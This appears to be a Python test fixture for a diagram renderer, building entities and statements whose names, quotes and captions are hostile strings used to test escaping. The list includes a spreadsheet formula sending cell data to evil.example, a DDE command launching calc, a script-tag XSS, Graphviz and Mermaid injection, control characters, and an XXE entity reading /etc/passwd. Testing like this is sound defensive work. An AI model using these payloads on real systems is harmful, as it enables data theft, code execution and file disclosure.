"""A diagram whose every text tries to be something else than text."""

from __future__ import annotations

from dataclasses import replace

from graph.model import Value
from ontology import Text
from tests.viz.samples import entity, snapshot, statement
from viz import Diagram, diagram_of

WORDS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "</script><script>alert(1)</script>",
    '"];evil [label="x"] // \\N\\G <b>html</b>',
    '--> evil["x"] %%{init: {"theme":"dark"}}%% #quot;',
    "zero\x00 bell\x07 \x1b[31m \ud800 \ufffe line\nfeed \u202egnirts",
    "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x; {{7*7}} #read(\"/etc/passwd\")",
)


def hostile_diagram() -> Diagram:
    """Eight entities in a ring, whose names, words and quotations are hostile."""
    entities = [entity(f"e{n}", "Body", f"机构{n}{word}", f"Body {n} {word}") for n, word in enumerate(WORDS)]
    entities += [entity(f"bare{n}", "Concept", word, word) for n, word in enumerate(WORDS)]
    count = Value(Text(WORDS[0], WORDS[1]), "1", "xsd:string")
    statements = [
        statement(
            f"{n + 1}.1",
            f"e{n}",
            "supports",
            f"e{(n + 1) % len(WORDS)}",
            "criticism" if n % 2 else "fact",
            quote=word,
            qualifier=Text(word, word),
        )
        for n, word in enumerate(WORDS)
    ]
    statements += [
        statement(f"{n + 20}.1", f"e{n}", "linkedTo", f"bare{n}", quote=word) for n, word in enumerate(WORDS)
    ]
    statements.append(statement("50.1", "e0", "memberCount", count))
    data = snapshot(entities, statements)
    names = [each.id for each in entities]
    drawn = diagram_of(data.neighbourhood(names, depth=0), data, id="hostile", title=Text(WORDS[0], WORDS[3]))
    return replace(drawn, subtitle=Text(WORDS[4], WORDS[5]), note=Text(WORDS[6], WORDS[7]))
